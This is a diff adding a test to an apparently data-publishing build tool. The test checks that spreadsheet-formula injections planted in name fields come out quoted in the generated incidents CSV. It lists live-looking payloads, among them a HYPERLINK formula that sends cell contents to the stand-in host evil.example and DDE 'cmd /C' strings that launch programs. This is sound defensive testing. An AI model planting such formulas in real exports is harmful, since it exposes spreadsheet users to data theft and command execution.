@@ -546,3 +546,25 @@ def test_terminal_escapes_in_content_never_reach_the_terminal(content_copy: Path
     assert run.status == 1
     assert "evil.yaml:3:" in run.err and "name.yaml:" in run.err
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", run.err), repr(run.err)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def test_names_that_spreadsheets_run_as_formulas_are_quoted_in_the_csv(content_copy: Path, tmp_path: Path) -> None:
+    tree = HostileTree(content_copy)
+    targets = [s for s in tree.slots("short") if s.field in ("name", "admin1") and s.file.startswith(
+        ("actors/", "locations/"))]
+    for slot, formula in zip(targets, FORMULAS * 10):
+        tree.set(slot, formula)
+    tree.save()
+    output = tmp_path / "output"
+    run = build(content_copy, output, "--no-pdf")
+    assert run.status == 0, run.err
+    rows = list(__import__("csv").reader((output / "data" / "incidents.csv").open(encoding="utf-8", newline="")))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any(cell.startswith("'") for cell in cells), "no planted name reached the CSV"
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
+                or re.match(r"-(?![\d.]+$)", cell)]
+    assert any(re.fullmatch(r"-?\d+\.\d{4}", cell) for cell in cells)  # coordinates stay numbers
